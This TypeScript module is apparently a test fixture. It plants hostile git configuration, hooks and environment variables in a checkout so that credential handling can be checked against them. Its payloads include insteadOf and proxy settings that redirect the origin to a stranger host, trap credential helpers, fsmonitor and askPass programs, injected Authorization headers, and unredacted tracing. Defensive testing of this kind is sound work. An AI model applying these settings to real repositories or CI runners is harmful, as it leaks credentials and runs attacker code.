import { appendFileSync, chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Site } from './site.ts';

export interface Attack {
  readonly name: string;
  /** Prepares the checkout and the home folder, and returns the job's variables. */
  readonly arm: (
    site: Site,
    origin: string,
    stranger: string,
  ) => Readonly<Record<string, string>> | undefined;
}

function configured(
  site: Site,
  ...settings: readonly (readonly [key: string, value: string])[]
): undefined {
  for (const [key, value] of settings) site.repository.git('config', '--add', key, value);
  return undefined;
}

function hook(folder: string, name: string, program: string): void {
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, name), `#!/bin/sh\nexec '${program}' "$@"\n`);
  chmodSync(join(folder, name), 0o755);
}

const HOOKS = [
  'pre-push',
  'reference-transaction',
  'post-index-change',
  'post-checkout',
  'pre-auto-gc',
  'update',
  'pre-receive',
];

/**
 * A git configuration with every setting that a user's or repository's file could use against us.
 */
function hostileConfig(site: Site, origin: string, stranger: string): string {
  return `[core]
\tfsmonitor = ${site.trap('include-fsmonitor')}
\taskPass = ${site.trap('include-askpass')}
\thooksPath = ${site.root}/hooks-of-config
\tsshCommand = ${site.trap('include-ssh')}
\tgitProxy = ${site.trap('include-proxy')}
\talternateRefsCommand = ${site.trap('include-alternates')}
\tpager = ${site.trap('include-pager')}
[credential]
\thelper = ${site.trap('include-helper')}
\thelper = store
[http]
\tproxy = ${stranger}
\textraHeader = X-Foreign: unscoped
\textraHeader = Authorization: Basic Zm9yZWlnbjp1bnNjb3BlZA==
\tfollowRedirects = true
\tcookieFile = ${site.root}/cookies
\tsaveCookies = true
[http "${origin}/"]
\textraHeader = Authorization: Basic Zm9yZWlnbjpzY29wZWQ=
\tproxy = ${stranger}
[url "${stranger}/"]
\tinsteadOf = ${origin}/
\tpushInsteadOf = ${origin}/
[protocol]
\tallow = always
[init]
\ttemplateDir = ${site.root}/template
[trace2]
\teventTarget = ${site.root}/traces/of-config
\tconfigParams = http.*
\tenvVars = GIT_CONFIG_VALUE_10,GIT_CONFIG_VALUE_11
`;
}

const traces = (site: Site, redact: string): Readonly<Record<string, string>> => ({
  GIT_TRACE: join(site.root, 'traces', 'trace'),
  GIT_TRACE_CURL: join(site.root, 'traces', 'trace-curl'),
  GIT_TRACE_PACKET: join(site.root, 'traces', 'trace-packet'),
  GIT_TRACE_SETUP: '1',
  GIT_CURL_VERBOSE: '1',
  GIT_TRACE_CURL_NO_DATA: '0',
  GIT_TRACE2: '1',
  GIT_TRACE2_EVENT: join(site.root, 'traces', 'trace2-event'),
  GIT_TRACE2_PERF: join(site.root, 'traces', 'trace2-perf'),
  GIT_TRACE2_CONFIG_PARAMS: '*',
  GIT_TRACE2_ENV_VARS: Array.from({ length: 16 }, (_, index) => `GIT_CONFIG_VALUE_${index}`).join(
    ',',
  ),
  GIT_TRACE_REDACT: redact,
  GIT_REDACT_COOKIES: redact,
});

/** The attacks from our research on Git credentials, each set up as an attacker would. */
export const attacks: readonly Attack[] = [
  {
    name: 'url.insteadOf',
    arm: (site, origin, stranger) => configured(site, [`url.${stranger}/.insteadOf`, `${origin}/`]),
  },
  {
    name: 'url.pushInsteadOf',
    arm: (site, origin, stranger) =>
      configured(site, [`url.${stranger}/.pushInsteadOf`, `${origin}/`]),
  },
  {
    name: 'credential.helper',
    arm: (site, origin) =>
      configured(
        site,
        ['credential.helper', site.trap('helper')],
        ['credential.helper', 'store'],
        [`credential.${origin}.helper`, site.trap('scoped-helper')],
      ),
  },
  {
    name: 'core.fsmonitor',
    arm: (site) => configured(site, ['core.fsmonitor', site.trap('fsmonitor')]),
  },
  {
    name: 'hooks of the checkout',
    arm: (site) => {
      for (const name of HOOKS)
        hook(join(site.repository.folder, '.git', 'hooks'), name, site.trap(`hook-${name}`));
      return undefined;
    },
  },
  {
    name: 'core.hooksPath',
    arm: (site) => {
      for (const name of HOOKS) hook(join(site.root, 'hooks'), name, site.trap(`path-${name}`));
      return configured(site, ['core.hooksPath', join(site.root, 'hooks')]);
    },
  },
  {
    name: 'http.proxy',
    arm: (site, origin, stranger) => {
      configured(
        site,
        ['http.proxy', stranger],
        [`http.${origin}/.proxy`, stranger],
        ['remote.origin.proxy', stranger],
      );
      return {
        all_proxy: stranger,
        ALL_PROXY: stranger,
        GIT_PROXY_COMMAND: site.trap('proxy-command'),
      };
    },
  },
  {
    name: 'http.extraHeader, unscoped',
    arm: (site) =>
      configured(
        site,
        ['http.extraHeader', 'Authorization: Basic Zm9yZWlnbjpw'],
        ['http.extraHeader', 'X-Foreign: 1'],
      ),
  },
  {
    name: 'http.extraHeader, scoped',
    arm: (site, origin) =>
      configured(
        site,
        [`http.${origin}/.extraHeader`, 'Authorization: Basic Zm9yZWlnbjpw'],
        [`http.${origin}/acme/web.git.extraHeader`, 'X-Foreign: 1'],
      ),
  },
  {
    name: 'core.askPass and its variables',
    arm: (site) => {
      configured(site, ['core.askPass', site.trap('askpass')]);
      return {
        GIT_ASKPASS: site.trap('git-askpass'),
        SSH_ASKPASS: site.trap('ssh-askpass'),
        DISPLAY: ':0',
        SSH_ASKPASS_REQUIRE: 'force',
      };
    },
  },
  {
    name: 'include.path',
    arm: (site, origin, stranger) => {
      writeFileSync(join(site.root, 'included'), hostileConfig(site, origin, stranger));
      return configured(site, ['include.path', join(site.root, 'included')]);
    },
  },
  {
    name: 'a hostile .gitconfig in HOME, and XDG',
    arm: (site, origin, stranger) => {
      hook(join(site.root, 'template', 'hooks'), 'pre-push', site.trap('template'));
      hook(join(site.root, 'hooks-of-config'), 'reference-transaction', site.trap('home-hook'));
      writeFileSync(join(site.home, '.gitconfig'), hostileConfig(site, origin, stranger));
      mkdirSync(join(site.home, '.config', 'git'), { recursive: true });
      writeFileSync(
        join(site.home, '.config', 'git', 'config'),
        hostileConfig(site, origin, stranger),
      );
      return { XDG_CONFIG_HOME: join(site.home, '.config') };
    },
  },
  { name: 'tracing', arm: (site) => traces(site, '1') },
  { name: 'tracing without redaction', arm: (site) => traces(site, '0') },
  {
    name: "git's own variables",
    arm: (site, origin, stranger) => {
      writeFileSync(join(site.root, 'included'), hostileConfig(site, origin, stranger));
      hook(join(site.root, 'template', 'hooks'), 'pre-push', site.trap('template-dir'));
      return {
        GIT_CONFIG_GLOBAL: join(site.root, 'included'),
        GIT_CONFIG_SYSTEM: join(site.root, 'included'),
        GIT_CONFIG_PARAMETERS: `'core.fsmonitor'='${site.trap('parameters')}'`,
        GIT_CONFIG_COUNT: '1',
        GIT_CONFIG_KEY_0: 'http.proxy',
        GIT_CONFIG_VALUE_0: stranger,
        GIT_TEMPLATE_DIR: join(site.root, 'template'),
        GIT_EXEC_PATH: site.root,
        GIT_DIR: join(site.root, 'tmp'),
        GIT_OBJECT_DIRECTORY: join(site.root, 'tmp'),
        GIT_ALTERNATE_OBJECT_DIRECTORIES: join(site.root, 'tmp'),
        GIT_SSL_NO_VERIFY: '1',
        GIT_ALLOW_PROTOCOL: 'ext:file:http:https',
        GIT_EDITOR: site.trap('editor'),
        GIT_PAGER: site.trap('pager'),
      };
    },
  },
];

/** Sets up all of them in one checkout. */
export function armAll(
  site: Site,
  origin: string,
  stranger: string,
): Readonly<Record<string, string>> {
  const variables = attacks.map(({ arm }) => arm(site, origin, stranger) ?? {});
  appendFileSync(
    join(site.repository.folder, '.git', 'config'),
    hostileConfig(site, origin, stranger),
  );
  return Object.assign({}, ...variables);
}
